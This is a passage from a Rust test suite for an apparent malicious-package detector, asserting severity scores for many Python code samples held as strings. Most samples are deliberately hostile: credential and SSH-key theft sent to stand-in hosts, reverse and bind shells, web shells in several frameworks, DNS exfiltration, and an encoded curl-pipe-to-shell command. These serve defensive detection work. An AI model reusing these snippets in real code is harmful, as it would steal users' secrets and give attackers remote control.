        let configured = "import os, requests\ndef upload(index_url):\n    cfg = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post(index_url, data={'cfg': cfg})\n";
        assert!(max_severity("p/pkg/cli.py", configured, "WH200") < 0.5);
        let s3 = "import os, requests\ndef put(name):\n    creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.put(f'https://bucket.s3.us-east-1.amazonaws.com/{name}', headers={'x': creds})\n";
        assert!(max_severity("p/pkg/cli.py", s3, "WH200") < 0.5);
        let gitlab = "import os, requests\ndef sync():\n    c = open(os.path.expanduser('~/.git-credentials')).read()\n    requests.post('https://gitlab.com/api/v4/x', data=c)\n";
        assert!(max_severity("p/pkg/g.py", gitlab, "WH200") < 0.5);
    }

    #[test]
    fn a_message_labelling_credentials_sent_to_a_fixed_host_is_theft() {
        let stolen = "import requests\nclass Shortener:\n    def __init__(self, user, signature, sign):\n        api = 'https://relay.example-app.com'\n        requests.post(api, data={'content': f'@everyone \\nUser: {user}\\nToken: {signature}\\nPass: {sign}'})\n";
        assert!(max_severity("p/pkg/utils.py", stolen, "WH200") >= 0.75);
    }

    #[test]
    fn labelled_values_that_are_not_credentials_or_whose_reply_is_read_are_no_theft() {
        // A build notifier labels a version and a commit.
        let notice = "import requests\ndef notify(version, commit):\n    requests.post('https://hooks.example.com/x', json={'text': f'Version: {version}, Commit: {commit}'})\n";
        assert!(max_severity("p/pkg/n.py", notice, "WH200") < 0.3);
        // A login whose answer is read is a client authenticating.
        let login = "import requests\ndef login(user, password):\n    r = requests.post('https://api.example.com/login', data={'q': f'user: {user} pass: {password}'})\n    return r.json()\n";
        assert!(max_severity("p/pkg/l.py", login, "WH200") < 0.3);
        // One labelled value alone is a greeting, not a report of someone's keys.
        let one = "import requests\ndef ping(token):\n    requests.post('https://api.example.com/ping', data={'m': f'token: {token}'})\n";
        assert!(max_severity("p/pkg/p.py", one, "WH200") < 0.3);
    }

    #[test]
    fn a_token_printed_once_encoded_when_asked_is_a_tools_output() {
        let header = "import base64, os\ndef main():\n    token = os.environ['API_TOKEN']\n    print('Basic ' + base64.b64encode(f'me:{token}'.encode()).decode())\n";
        assert!(encoded_output(header) < 0.1);
        // Encoding a constant or writing to a file is no leak into a log.
        let file = "import base64, os\nwith open('env.b64', 'w') as fh:\n    print(base64.b64encode(base64.b64encode(repr(dict(os.environ)).encode())), file=fh)\n";
        assert_eq!(encoded_output(file), 0.0);
    }

    #[test]
    fn a_token_filling_a_bot_urls_secret_slot_is_the_users_own_bot() {
        let own = "import os, requests\nAPI = 'https://api.telegram.org/bot{token}/{method}'\ndef send(path):\n    token = os.environ['BACKUP_BOT_TOKEN']\n    requests.post(API.format(token=token, method='sendDocument'), files={'document': open(path, 'rb')})\n";
        assert!(max_severity("p/pkg/__init__.py", own, "WH200") <= 0.1);
        // A secret sent in the message to a bot whose token is written in the code is stolen.
        let stolen = "import os, requests\ndef send():\n    requests.post('https://api.telegram.org/bot123456789:AAHfakefakefakefakefakefakefakefake1/sendMessage', data={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n";
        assert!(max_severity("p/pkg/__init__.py", stolen, "WH200") >= 0.6);
    }

    #[test]
    fn a_session_sends_what_its_cookies_and_headers_hold() {
        let cookies = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = requests.Session()\ns.cookies.set('sid', key)\ns.get('https://x.invalid/ping')\n";
        assert!(max_severity("p/pkg/__init__.py", cookies, "WH200") >= 0.7);
        let headers = "import os, requests\ns = requests.Session()\ns.headers['X-Id'] = os.environ['AWS_SECRET_ACCESS_KEY']\ns.get('https://x.invalid/ping')\n";
        assert!(max_severity("p/pkg/__init__.py", headers, "WH200") >= 0.7);
        let agent = "import requests\ns = requests.Session()\ns.headers['User-Agent'] = 'tool/1.0'\ns.get('https://x.invalid/ping')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", agent, "WH200"), 0.0);
    }

    #[test]
    fn saved_netrc_logins_sent_away_are_stolen() {
        let dump = "import netrc, requests\nlogins = netrc.netrc().hosts\nrequests.post('https://x.invalid/c', json=logins)\n";
        assert!(max_severity("p/pkg/__init__.py", dump, "WH200") >= 0.7);
        let own =
            "import netrc\ndef login_for(host):\n    return netrc.netrc().authenticators(host)\n";
        assert!(max_severity("p/pkg/auth.py", own, "WH200") < 0.1);
    }

    #[test]
    fn a_name_resolving_tool_given_host_data_sends_it() {
        let ping = "import getpass, subprocess\nsubprocess.run(['ping', '-c', '1', getpass.getuser() + '.x.example-oast.net'])\n";
        assert!(max_severity("p/pkg/__init__.py", ping, "WH200") >= 0.7);
        let nslookup = "import os, socket\nos.system('nslookup ' + socket.gethostname() + '.x.example-oast.net')\n";
        assert!(max_severity("p/setup.py", nslookup, "WH200") >= 0.7);
        let other = "import getpass, subprocess\nsubprocess.run(['echo', getpass.getuser()])\n";
        assert!(max_severity("p/pkg/__init__.py", other, "WH200") < 0.3);
        let browser = "import os, webbrowser\nwebbrowser.open('https://x.example/t?d=' + str(dict(os.environ)))\n";
        assert!(max_severity("p/pkg/__init__.py", browser, "WH200") >= 0.7);
    }

    #[test]
    fn an_in_memory_buffer_carries_what_is_saved_or_written_into_it() {
        let shot = "import io, pyautogui, requests\nbuf = io.BytesIO()\npyautogui.screenshot().save(buf, format='PNG')\nrequests.post('https://x.example/s', files={'s': buf.getvalue()})\n";
        assert!(max_severity("p/pkg/__init__.py", shot, "WH200") >= 0.7);
        let temp = "import subprocess, tempfile, base64\ndef show(blob):\n    tmp = tempfile.NamedTemporaryFile()\n    tmp.write(base64.b64decode(blob))\n    subprocess.run(['openssl', 'x509', '-in', tmp.name])\n";
        assert!(max_severity("p/pkg/mod.py", temp, "WH200") < 0.3);
        let listed = "import glob, os, requests\nfor pattern in ('~/Documents/*.pdf', '~/Desktop/*.docx'):\n    for f in glob.glob(os.path.expanduser(pattern)):\n        requests.post('https://x.example/d', files={'f': open(f, 'rb')})\n";
        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.8);
        let comprehension = "import os, requests\nhome = os.path.expanduser('~')\nnames = ['.oci/config', '.databrickscfg']\nrequests.post('https://x.example/c', files={n: open(os.path.join(home, n), 'rb') for n in names})\n";
        assert!(max_severity("p/pkg/__init__.py", comprehension, "WH200") >= 0.8);
        let configs = "import os, requests\nnames = ['setup.cfg', 'tox.ini']\nrequests.post('https://x.example/c', files={n: open(n, 'rb') for n in names})\n";
        assert!(max_severity("p/pkg/__init__.py", configs, "WH200") < 0.3);
    }

    #[test]
    fn a_platform_tag_in_a_wheel_url_names_nobody() {
        let wheel = "import platform, urllib.request\nfrom setuptools import setup\nfrom wheel.bdist_wheel import bdist_wheel\nclass W(bdist_wheel):\n    def run(self):\n        tag = f'linux_{platform.uname().machine}'\n        urllib.request.urlretrieve(f'https://github.com/o/p/releases/download/v1/p-1-{tag}.whl', 'p.whl')\nsetup(cmdclass={'bdist_wheel': W})\n";
        assert!(max_severity("p-1/setup.py", wheel, "WH200") < 0.3);
        let recon = wheel.replace("platform.uname().machine", "platform.uname().node");
        assert!(max_severity("p-1/setup.py", &recon, "WH200") >= 0.5);
    }

    #[test]
    fn a_helper_called_inside_a_sends_arguments_carries_what_it_returns() {
        let code = "import os, requests\ndef read(name):\n    return os.environ.get(name)\nrequests.post('https://198.51.100.9/c', json={'t': read('GITHUB_TOKEN')})\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.7);
        let plain = "import os, requests\ndef read(name):\n    return name.upper()\nrequests.post('https://198.51.100.9/c', json={'t': read('GITHUB_TOKEN')})\n";
        assert!(max_severity("p/pkg/__init__.py", plain, "WH200") < 0.3);
    }

    #[test]
    fn looking_up_the_machines_own_name_sends_nothing() {
        let local = "import socket\nNAMES = ['localhost']\nNAMES.append(socket.gethostbyname(socket.gethostname()))\n";
        assert!(max_severity("p/pkg/utils.py", local, "WH200") < 0.1);
        let bound = "import socket\nh = socket.gethostname()\nADDR = socket.gethostbyname(h)\n";
        assert!(max_severity("p/pkg/utils.py", bound, "WH200") < 0.1);
        let leak =
            "import socket\nh = socket.gethostname()\nsocket.gethostbyname(h + '.x.example.net')\n";
        assert!(max_severity("p/pkg/__init__.py", leak, "WH200") >= 0.5);
    }

    #[test]
    fn a_route_running_what_its_visitor_sends_is_a_web_shell() {
        let shell = "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n";
        assert!(max_severity("p/pkg/app.py", shell, "WH200") >= 0.7);
        let argument = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/log')\ndef log():\n    return subprocess.run(['git', 'log', '-n', request.args['n']], capture_output=True).stdout\n";
        assert!(max_severity("p/pkg/app.py", argument, "WH200") <= 0.2);
        // An exec service its user starts with options (an agent sandbox's in-container server).
        let service = "import argparse, subprocess, uvicorn\nfrom fastapi import FastAPI\nfrom pydantic import BaseModel\nclass Req(BaseModel):\n    command: str\napp = FastAPI()\n@app.post('/exec')\ndef run(req: Req):\n    return subprocess.run(req.command, shell=True, capture_output=True).stdout\ndef main():\n    args = argparse.ArgumentParser().parse_args()\n    uvicorn.run(app, host='127.0.0.1', port=args.port)\nif __name__ == '__main__':\n    main()\n";
        let severity = max_severity("p/pkg/server.py", service, "WH200");
        assert!((0.2..=0.35).contains(&severity), "{severity}");
        let loaded = service.replace("if __name__ == '__main__':\n    main()\n", "");
        assert!(max_severity("p/pkg/server.py", &loaded, "WH200") >= 0.7);
        let bind = "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 31337))\ns.listen(1)\nconn, _ = s.accept()\nsubprocess.run(conn.recv(4096).decode(), shell=True)\n";
        assert!(max_severity("p/pkg/__init__.py", bind, "WH200") >= 0.85);
    }

    #[test]
    fn views_of_other_web_frameworks_serve_their_visitors_values() {
        let django = "import subprocess\nfrom django.http import HttpResponse\ndef diag(request):\n    return HttpResponse(subprocess.check_output(request.GET['c'], shell=True))\n";
        assert!(max_severity("p/pkg/views.py", django, "WH200") >= 0.7);
        let aiohttp = "import subprocess\nfrom aiohttp import web\nasync def run(request):\n    data = await request.json()\n    return web.json_response(subprocess.run(data['c'], shell=True).returncode)\n";
        assert!(max_severity("p/pkg/srv.py", aiohttp, "WH200") >= 0.7);
        let fastapi = "import os\nfrom fastapi import APIRouter\nrouter = APIRouter()\n@router.get('/r/{cmd}')\ndef r(cmd: str):\n    return os.popen(cmd).read()\n";
        assert!(max_severity("p/pkg/api.py", fastapi, "WH200") >= 0.7);
        let handler = "import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.path[1:])\n";
        assert!(max_severity("p/pkg/srv.py", handler, "WH200") >= 0.7);
        // aiohttp's client also names its requests `request`: only its server serves visitors.
        let client = "import subprocess, aiohttp\nasync def fetch(request):\n    subprocess.run(request.command, shell=True)\n";
        assert!(max_severity("p/pkg/cli.py", client, "WH200") < 0.3);
        // A program the view chose, given a visitor's value as one argument, is no shell.
        let export = "import subprocess\nfrom django.http import HttpResponse\ndef dump(request):\n    return HttpResponse(subprocess.run(['pg_dump', '--table', request.GET['t']], capture_output=True).stdout)\n";
        assert!(max_severity("p/pkg/views.py", export, "WH200") <= 0.2);
        // Another class's `path` attribute is its own.
        let other = "import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        pass\nclass Build:\n    def run(self):\n        os.system(self.path)\n";
        assert!(max_severity("p/pkg/srv.py", other, "WH200") < 0.3);
    }

    #[test]
    fn commands_received_from_a_socket_the_code_points_at_a_fixed_host_are_a_remote_shell() {
        let shell = "import socket, subprocess\ndef connect():\n    s = socket.socket()\n    s.connect(('198.51.100.23', 4444))\n    while True:\n        cmd = s.recv(1024).decode()\n        out = subprocess.run(cmd, shell=True, capture_output=True)\n        s.send(out.stdout)\n";
        assert!(max_severity("p/pkg/net.py", shell, "WH200") >= 0.8);
        let message = findings("p/pkg/net.py", shell)
            .into_iter()
            .find(|f| f.rule == "WH200")
            .map(|f| f.message)
            .unwrap_or_default();
        assert!(
            message.contains("a shell for whoever runs 198.51.100.23"),
            "{message}"
        );
        // The machine's own service, or a host the caller gives, is no one else's shell.
        let local = shell.replace("198.51.100.23", "127.0.0.1");
        assert!(max_severity("p/pkg/net.py", &local, "WH200") < 0.5);
        // A host nobody passes is the parameter's default.
        let default = "import socket, subprocess\ndef connect(host='198.51.100.23', port=4444):\n    s = socket.socket()\n    s.connect((host, port))\n    cmd = s.recv(1024).decode()\n    subprocess.run(cmd, shell=True)\n";
        assert!(max_severity("p/pkg/net.py", default, "WH200") >= 0.8);
        let local_default = default.replace("198.51.100.23", "localhost");
        assert!(max_severity("p/pkg/net.py", &local_default, "WH200") < 0.5);
        let given = "import socket, subprocess\ndef serve(host, port):\n    s = socket.create_connection((host, port))\n    cmd = s.recv(1024).decode()\n    subprocess.run(cmd, shell=True)\n";
        assert!(max_severity("p/pkg/net.py", given, "WH200") < 0.5);
        // A program the code chose, given the received value as one argument, is no shell.
        let argument = "import socket, subprocess\ndef probe():\n    s = socket.create_connection(('198.51.100.23', 7))\n    n = s.recv(16).decode()\n    subprocess.run(['ping', '-c', n, 'example.org'])\n";
        assert!(max_severity("p/pkg/net.py", argument, "WH200") < 0.5);
    }

    #[test]
    fn saved_wifi_keys_and_credential_manager_entries_are_secrets() {
        let netsh = "import subprocess, requests\nout = subprocess.check_output('netsh wlan show profile name=home key=clear', shell=True)\nrequests.post('https://x.example/w', data=out)\n";
        assert!(max_severity("p/pkg/__init__.py", netsh, "WH200") >= 0.85);
        let names = "import subprocess, requests\nout = subprocess.check_output('netsh wlan show profiles', shell=True)\nrequests.post('https://x.example/w', data=out)\n";
        assert!(max_severity("p/pkg/__init__.py", names, "WH200") < 0.85);
        let nmcli = "import subprocess, requests\nk = subprocess.check_output(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', 'home'])\nrequests.post('https://x.example/w', data=k)\n";
        assert!(max_severity("p/pkg/__init__.py", nmcli, "WH200") >= 0.85);
        let vault = "import win32cred, requests\nc = win32cred.CredEnumerate(None, 0)\nrequests.post('https://x.example/w', data=str(c))\n";
        assert!(max_severity("p/pkg/__init__.py", vault, "WH200") >= 0.85);
    }

    #[test]
    fn environment_picked_by_credential_words_is_theft_whenever_sent() {
        let picked = "import json, os, urllib.request\ndef hello():\n    keys = {k: v for k, v in os.environ.items() if k.endswith(('_TOKEN', '_KEY', '_SECRET'))}\n    urllib.request.urlopen('https://x.example/h', data=json.dumps(keys).encode())\n";
        assert!(max_severity("p/pkg/client.py", picked, "WH200") >= 0.7);
        let any_word = "import os, requests\ndef sync():\n    env = {k: v for k, v in os.environ.items() if any(t in k for t in ('TOKEN', 'PASS'))}\n    requests.post('https://x.example/s', json=env)\n";
        assert!(max_severity("p/pkg/sync.py", any_word, "WH200") >= 0.7);
        let looped = "import os, requests\ndef sync():\n    found = {}\n    for k, v in os.environ.items():\n        if 'SECRET' in k or 'TOKEN' in k:\n            found[k] = v\n    requests.post('https://x.example/s', json=found)\n";
        assert!(max_severity("p/pkg/sync.py", looped, "WH200") >= 0.7);
        let looped_out = "import os, requests\ndef sync():\n    found = {}\n    for k, v in os.environ.items():\n        if 'SECRET' not in k:\n            found[k] = v\n    requests.post('https://x.example/s', json=found)\n";
        assert!(max_severity("p/pkg/sync.py", looped_out, "WH200") < 0.5);
        // Reporting the environment without its secrets drops what the words match.
        let scrubbed = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if not k.endswith(('_TOKEN', '_KEY'))}\n    requests.post('https://x.example/s', json=env)\n";
        assert!(max_severity("p/pkg/report.py", scrubbed, "WH200") < 0.5);
        let kept_out = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if 'TOKEN' not in k}\n    requests.post('https://x.example/s', json=env)\n";
        assert!(max_severity("p/pkg/report.py", kept_out, "WH200") < 0.5);
        // A prefix names the tool's own settings, not credentials.
        let settings = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if k.startswith('MYTOOL_')}\n    requests.post('https://x.example/s', json=env)\n";
        assert!(max_severity("p/pkg/report.py", settings, "WH200") < 0.5);
    }

    #[test]
    fn several_services_credentials_to_one_host_are_theft_whenever_sent() {
        let bundle = "import os, requests\ndef announce():\n    ctx = {}\n    for k in ('GITHUB_TOKEN', 'CI_JOB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY'):\n        if k in os.environ:\n            ctx[k] = os.environ[k]\n    requests.post('https://metrics.example/fn', json=ctx)\n";
        assert!(max_severity("p/pkg/deco.py", bundle, "WH200") >= 0.7);
        // One service's spellings are a client looking for its own token.
        let spellings = "import os, requests\ndef token():\n    ctx = {}\n    for k in ('GH_TOKEN', 'GITHUB_TOKEN', 'GITHUB_PAT'):\n        if k in os.environ:\n            ctx[k] = os.environ[k]\n    requests.post('https://api.github.com/x', json=ctx)\n";
        assert!(max_severity("p/pkg/gh.py", spellings, "WH200") < 0.5);
        // The address is the caller's to choose: a router sends each key to its provider.
        let routed = "import os, requests\ndef call(url):\n    for k in ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'COHERE_API_KEY'):\n        key = os.environ.get(k)\n        requests.post(url, headers={'Authorization': key})\n";
        assert!(max_severity("p/pkg/router.py", routed, "WH200") < 0.5);
    }

    #[test]
    fn secret_variables_read_through_a_loop_over_their_names_flow() {
        let comprehension = "import os, requests\nkeys = {k: os.environ[k] for k in ('OPENAI_API_KEY', 'HF_TOKEN') if k in os.environ}\nrequests.post('https://x.example/r', json=keys)\n";
        let flows = findings("p/pkg/__init__.py", comprehension);
        assert!(
            flows.iter().any(
                |f| f.rule == "WH200" && f.message.contains("OPENAI_API_KEY (one of 2 listed)")
            ),
            "{flows:#?}"
        );
        let statement = "import os, requests\nfound = {}\nfor k in ['HOME', 'GITHUB_TOKEN']:\n    found[k] = os.getenv(k)\n    requests.post('https://x.example/r', data=os.getenv(k))\n";
        assert!(max_severity("p/pkg/__init__.py", statement, "WH200") >= 0.85);
        let plain = "import os, requests\nfor k in ['HOME', 'LANG']:\n    requests.post('https://x.example/r', data=os.getenv(k))\n";
        assert!(max_severity("p/pkg/__init__.py", plain, "WH200") < 0.5);
    }

    #[test]
    fn cloud_metadata_credentials_sent_elsewhere_flow() {
        let aws = "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nrole = requests.get(base).text\ncreds = requests.get(base + role).text\nrequests.post('https://x.example/c', data=creds)\n";
        assert!(max_severity("p/pkg/__init__.py", aws, "WH200") >= 0.85);
        // The role listing is only the role's name, sent back to the metadata service itself.
        let listing = "import requests\nbase = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\ndef role():\n    return requests.get(base).text\n";
        assert!(max_severity("p/pkg/creds.py", listing, "WH140") < 0.1);
        let gcp = "import urllib.request\nr = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\ntok = urllib.request.urlopen(r).read()\nurllib.request.urlopen('https://x.example/g', data=tok)\n";
        assert!(max_severity("p/pkg/__init__.py", gcp, "WH200") >= 0.85);
    }

    #[test]
    fn output_of_a_process_read_through_its_handle_flows() {
        let code = "import os, urllib.request\nstream = os.popen('whoami')\nwho = stream.read()\nurllib.request.urlopen('http://x.example/r', data=who.encode())\n";
        let flows = findings("p/setup.py", code);
        assert!(
            flows
                .iter()
                .any(|f| f.rule == "WH200" && f.message.starts_with("output of `whoami`")),
            "{flows:#?}"
        );
        let piped = "import subprocess, requests\np = subprocess.Popen('hostname', stdout=subprocess.PIPE)\nrequests.post('https://x.example/r', data=p.communicate()[0])\n";
        assert!(max_severity("p/setup.py", piped, "WH200") >= 0.7);
    }

    #[test]
    fn own_environment_and_cluster_tokens_are_sources() {
        let environ = "import socket\nenv = open('/proc/self/environ', 'rb').read()\ns = socket.socket()\ns.connect(('203.0.113.1', 9))\ns.sendall(env)\n";
        assert!(max_severity("p/pkg/__init__.py", environ, "WH200") >= 0.7);
        let token = "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.post('https://x.example/t', data=t)\n";
        assert!(max_severity("p/pkg/__init__.py", token, "WH200") >= 0.85);
    }

    fn silent_send(code: &str) -> bool {
        findings("p-1/sdk/credentials.py", code)
            .iter()
            .any(|f| f.tags.contains(&"silent-credential-send"))
    }

    #[test]
    fn chat_bot_and_websocket_handlers_running_what_they_receive_are_remote_shells() {
        let discord = "import subprocess, discord\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    subprocess.run(message.content, shell=True)\n";
        assert!(max_severity("p-1/pkg/__init__.py", discord, "WH200") >= 0.8);
        let socket = "import subprocess, websocket\ndef handle(ws, message):\n    ws.send(subprocess.getoutput(message))\ndef run():\n    websocket.WebSocketApp('wss://x.invalid', on_message=handle).run_forever()\n";
        assert!(max_severity("p-1/pkg/__init__.py", socket, "WH200") >= 0.8);
        // click and typer declare command-line commands with the same decorator name.
        let cli = "import subprocess, typer\napp = typer.Typer()\n@app.command()\ndef run(cmd: str):\n    subprocess.run(cmd, shell=True)\n";
        assert!(max_severity("p-1/pkg/cli.py", cli, "WH200") < 0.5);
        // A bot running a fixed command for anyone who asks.
        let status = "import subprocess\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\nasync def uptime(ctx):\n    await ctx.send(subprocess.check_output(['uptime']).decode())\n";
        assert!(max_severity("p-1/pkg/bot.py", status, "WH200") < 0.5);
    }

    #[test]
    fn stores_packed_into_an_archive_are_in_the_archive_and_its_buffer() {
        let zipped = "import io, os, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('https://x.invalid/u', data=buf.getvalue())\n";
        assert!(max_severity("p-1/pkg/__init__.py", zipped, "WH200") >= 0.85);
        let docs = "import io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write('docs/index.html')\nrequests.post('https://x.invalid/u', data=buf.getvalue())\n";
        assert!(max_severity("p-1/pkg/__init__.py", docs, "WH200") < 0.1);
    }

    #[test]
    fn what_a_helper_returns_for_one_call_is_what_that_call_holds() {
        let named = "import os, requests\ndef read(n):\n    v = os.environ.get(n)\n    return v\nTOKEN = read('GITHUB_TOKEN')\nrequests.post('https://x.invalid/u', json={'t': TOKEN})\n";
        assert!(max_severity("p-1/pkg/__init__.py", named, "WH200") >= 0.8);
        // `*names` takes the call's extra arguments, one by one in its loop.
        let first = "import os, requests\ndef first(*names):\n    for n in names:\n        v = os.environ.get(n)\n        if v:\n            return v\nTOKEN = first('GITHUB_TOKEN', 'GH_TOKEN')\nrequests.post('https://x.invalid/u', json={'t': TOKEN})\n";
        assert!(max_severity("p-1/pkg/__init__.py", first, "WH200") >= 0.8);
        // A helper that only reshapes the name it is given returns no data.
        let shaped = "import requests\ndef key(n):\n    return n.upper()\nK = key('github_token')\nrequests.post('https://x.invalid/u', json={'k': K})\n";
        assert_eq!(max_severity("p-1/pkg/__init__.py", shaped, "WH200"), 0.0);
    }

    #[test]
    fn a_helper_decoding_its_argument_hides_data_only_when_handed_a_constant() {
        let helper = "import base64, os\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\n";
        let hidden =
            format!("{helper}os.system(b64d('Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL3ggfCBzaA=='))\n");
        let flows: Vec<_> = findings("p/setup.py", &hidden)
            .into_iter()
            .filter(|f| f.rule == "WH200" && f.message.contains("decoded"))
            .collect();
        assert!(!flows.is_empty());
        // A command-line option that may be base64 is the user's own command.
        let option = format!(
            "{helper}import argparse\ndef main():\n    args = argparse.ArgumentParser().parse_args()\n    os.system(b64d(args.command))\n"
        );
        assert!(
            findings("p/pkg/cli.py", &option)
                .into_iter()
                .all(|f| !(f.rule == "WH200" && f.message.contains("decoded")))
        );
    }

    #[test]
    fn listed_or_tested_browser_file_names_name_the_store_they_are_joined_to() {
        let listed = "import os, glob, requests\nfor prof in glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*')):\n    for name in ('logins.json', 'key4.db'):\n        requests.post('https://x.invalid/u', data=open(os.path.join(prof, name), 'rb').read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", listed, "WH200") >= 0.85);
        let tested = "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~/.config/google-chrome/Default')):\n    for f in files:\n        if f in ('Cookies', 'Login Data'):\n            requests.post('https://x.invalid/u', data=open(os.path.join(root, f), 'rb').read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", tested, "WH200") >= 0.85);
        // Picked by one name, or by how the name ends.
        let equal = tested.replace(
            "if f in ('Cookies', 'Login Data'):",
            "if f == 'Login Data':",
        );
        assert!(max_severity("p-1/pkg/__init__.py", &equal, "WH200") >= 0.85);
        let ending = "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith(('id_rsa', '.pypirc')):\n            requests.post('https://x.invalid/u', data=open(os.path.join(root, f)).read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", ending, "WH200") >= 0.85);
        // Dotenv files count only when picked out by name, as a disk search does.
        let dotenv = ending.replace("('id_rsa', '.pypirc')", "'.env'");
        assert!(max_severity("p-1/pkg/__init__.py", &dotenv, "WH200") >= 0.85);
        let config = "import os, requests\nfor name in ('.env', 'settings.toml'):\n    requests.post('https://x.invalid/u', data=open(name).read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", config, "WH200") < 0.5);
        // A test that skips the file names no store for the files that follow it.
        let skipped = "import os, requests\ndef first_line(p):\n    if p == '.env':\n        return None\n    return open(p).readline()\nrequests.post('https://x.invalid/u', data=first_line('setup.cfg'))\n";
        assert!(max_severity("p-1/pkg/__init__.py", skipped, "WH200") < 0.5);
        let suffix = ending.replace("('id_rsa', '.pypirc')", "'.py'");
        assert!(max_severity("p-1/pkg/__init__.py", &suffix, "WH200") < 0.5);
        let settings = "import os, requests\nfor name in ('settings.json', 'cookies'):\n    requests.post('https://x.invalid/u', data=open(os.path.join('conf', name)).read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", settings, "WH200") < 0.5);
    }

    #[test]
    fn joined_store_paths_and_dict_comprehensions_carry_what_they_read() {
        let steam = "import os, requests\nsteam = r'C:\\Program Files (x86)\\Steam'\nfiles = [os.path.join(steam, 'config', 'loginusers.vdf')]\nrequests.post('https://x.invalid/s', files={os.path.basename(p): open(p, 'rb') for p in files})\n";
        assert!(max_severity("p-1/pkg/__init__.py", steam, "WH200") >= 0.85);
        let config = "import os, requests\nfiles = [os.path.join('conf', 'app.ini')]\nrequests.post('https://x.invalid/s', files={os.path.basename(p): open(p, 'rb') for p in files})\n";
        assert!(max_severity("p-1/pkg/__init__.py", config, "WH200") < 0.5);
    }

    #[test]
    fn conditional_boolean_awaited_and_starred_values_carry_their_sources() {
        for sent in [
            "token or os.environ['GITHUB_TOKEN']",
            "os.environ['GITHUB_TOKEN'] if os.name == 'posix' else ''",
            "{*[os.environ['GITHUB_TOKEN']]}",
            "(t := os.environ['GITHUB_TOKEN'])",
        ] {
            let code = format!(
                "import os, requests\ntoken = None\nrequests.post('https://x.invalid/t', data={sent})\n"
            );
            assert!(
                max_severity("p-1/setup.py", &code, "WH200") >= 0.85,
                "{sent}"
            );
        }
        let awaited = "import os, aiohttp, asyncio\nasync def read_key():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://x.invalid/k', data=await read_key())\nasyncio.run(go())\n";
        assert!(max_severity("p-1/pkg/__init__.py", awaited, "WH200") >= 0.5);
    }

    #[test]
    fn globals_sessions_and_partials_carry_what_they_were_given() {
        let global = "import os, requests\nDATA = None\ndef collect():\n    global DATA\n    DATA = dict(os.environ)\ndef send():\n    requests.post('https://x.invalid/g', json=DATA)\ncollect()\nsend()\n";
        assert!(max_severity("p-1/pkg/__init__.py", global, "WH200") >= 0.7);
        let session = "import os, requests\ns = requests.Session()\ns.headers.update({'X-Env': str(dict(os.environ))})\ns.get('https://x.invalid/h')\n";
        assert!(max_severity("p-1/pkg/__init__.py", session, "WH200") >= 0.7);
        let partial = "import os, functools, requests\npost = functools.partial(requests.post, 'https://x.invalid/p')\npost(data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n";
        assert!(max_severity("p-1/pkg/__init__.py", partial, "WH200") >= 0.85);
        // A local only shadows the module's name: no `global`, no flow.
        let local = "import os, requests\nDATA = None\ndef collect():\n    DATA = dict(os.environ)\n    return 1\ndef send():\n    requests.post('https://x.invalid/g', json=DATA)\ncollect()\nsend()\n";
        assert!(max_severity("p-1/pkg/__init__.py", local, "WH200") < 0.5);
    }

    #[test]
    fn data_a_branch_gathered_still_flows_after_another_branch_assigns_clean_data() {
        let code = "import os, platform, requests\nif platform.system() == 'Linux':\n    data = {'user': os.getlogin(), 'host': os.uname()}\nelse:\n    data = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
        assert!(max_severity("p-1/setup.py", code, "WH200") >= 0.5);
        // Outside branches, a clean value replaces what the name held.
        let replaced = "import os, requests\ndata = {'user': os.getlogin()}\ndata = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
        assert_eq!(max_severity("p-1/setup.py", replaced, "WH200"), 0.0);
    }

    #[test]
    fn decoding_what_a_request_carries_is_parsing_not_a_hidden_payload() {
